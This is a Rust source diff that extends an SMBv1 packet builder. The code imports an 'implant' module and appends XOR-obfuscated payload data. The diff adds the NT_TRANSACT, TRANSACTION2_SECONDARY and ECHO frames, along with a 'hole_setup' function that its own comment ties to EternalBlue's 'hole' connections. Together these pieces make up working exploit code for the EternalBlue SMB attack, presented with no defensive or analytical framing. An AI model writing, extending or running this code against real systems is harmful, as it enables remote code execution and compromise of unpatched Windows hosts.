@@ -5,12 +5,15 @@ use super::implant::append_xored;
 /// Commands that the visitors send.
 mod command {
     pub(super) const TRANSACTION: u8 = 0x25;
+    pub(super) const ECHO: u8 = 0x2b;
     pub(super) const TRANSACTION2: u8 = 0x32;
+    pub(super) const TRANSACTION2_SECONDARY: u8 = 0x33;
     pub(super) const TREE_DISCONNECT: u8 = 0x71;
     pub(super) const NEGOTIATE: u8 = 0x72;
     pub(super) const SESSION_SETUP_ANDX: u8 = 0x73;
     pub(super) const LOGOFF_ANDX: u8 = 0x74;
     pub(super) const TREE_CONNECT_ANDX: u8 = 0x75;
+    pub(super) const NT_TRANSACT: u8 = 0xa0;
 }
 
 /// Where in an exec frame the chunk's bytes begin: NetBIOS header, SMB header, 15 words, count, pad,
@@ -39,6 +42,14 @@ fn len16(len: usize) -> u16 {
 }
 
 fn begin(frame: &mut Vec<u8>, header: Header, command: u8, words: &[u16]) {
+    begin_header(frame, header, command, words.len());
+    for word in words {
+        frame.extend_from_slice(&word.to_le_bytes());
+    }
+}
+
+/// Everything up to WordCount.
+fn begin_header(frame: &mut Vec<u8>, header: Header, command: u8, words: usize) {
     frame.clear();
     frame.extend_from_slice(b"\0\0\0\0\xffSMB");
     frame.push(command);
@@ -49,10 +60,7 @@ fn begin(frame: &mut Vec<u8>, header: Header, command: u8, words: &[u16]) {
     for word in [header.tid, header.pid, header.uid, header.mid] {
         frame.extend_from_slice(&word.to_le_bytes());
     }
-    frame.push(u8::try_from(words.len()).unwrap_or(u8::MAX));
-    for word in words {
-        frame.extend_from_slice(&word.to_le_bytes());
-    }
+    frame.push(u8::try_from(words).unwrap_or(u8::MAX));
 }
 
 /// Writes the NBSS length of what stands in `frame`: 24 bits, big-endian.
@@ -238,4 +246,44 @@ pub fn carrier(frame: &mut Vec<u8>, header: Header, carrier: &Carrier<'_>) {
     frame.extend_from_slice(&carrier.params);
     append_xored(frame, carrier.data, carrier.key);
     finish(frame);
+}
+
+/// Any message: `words` are the bytes of its words, `bytes` what its byte count counts.
+pub fn message(frame: &mut Vec<u8>, header: Header, command: u8, words: &[u8], bytes: &[u8]) {
+    begin_header(frame, header, command, words.len().div_ceil(2));
+    frame.extend_from_slice(words);
+    finish_with(frame, bytes);
+}
+
+/// SESSION_SETUP_ANDX in its form with 12 words and an empty blob: EternalBlue's "hole" connections.
+pub fn hole_setup(frame: &mut Vec<u8>, header: Header, vc: u16) {
+    let words = [0x00ff, 0, 4356, 10, vc, 0, 0, 0, 0, 0, 0x00d4, 0x8000];
+    begin(frame, header, command::SESSION_SETUP_ANDX, &words);
+    finish_with(frame, &[0; 22]);
+}
+
+/// ECHO of `data`, once.
+pub fn echo(frame: &mut Vec<u8>, header: Header, data: &[u8]) {
+    begin(frame, header, command::ECHO, &[1]);
+    finish_with(frame, data);
+}
+
+/// NT_TRANSACT, function 0, one setup word, 30 parameters at 75, its first data at 104. The parameters are
+/// zero but for the last, which is the first byte of the data: there is no more room between the two.
+pub fn nt_transact(frame: &mut Vec<u8>, header: Header, total_data: u32, first: &[u8]) {
+    let first_len = u32::try_from(first.len()).unwrap_or(u32::MAX);
+    let mut words = vec![1, 0, 0];
+    // Total and maximal counts, then count and offset of parameters and of data.
+    for value in [30, total_data, 30, 0, 30, 75, first_len, 104] {
+        words.extend_from_slice(&value.to_le_bytes());
+    }
+    words.extend_from_slice(&[1, 0, 0, 0, 0]);
+    message(frame, header, command::NT_TRANSACT, &words, &[&[0; 29], first].concat());
+}
+
+/// TRANSACTION2_SECONDARY with 9 words: data at 53, no parameters.
+pub fn transaction2_secondary(frame: &mut Vec<u8>, header: Header, displacement: u16, piece: &[u8]) {
+    let count = len16(piece.len());
+    begin(frame, header, command::TRANSACTION2_SECONDARY, &[0, count, 0, 0, 0, count, 53, displacement, 0]);
+    finish_with(frame, piece);
 }
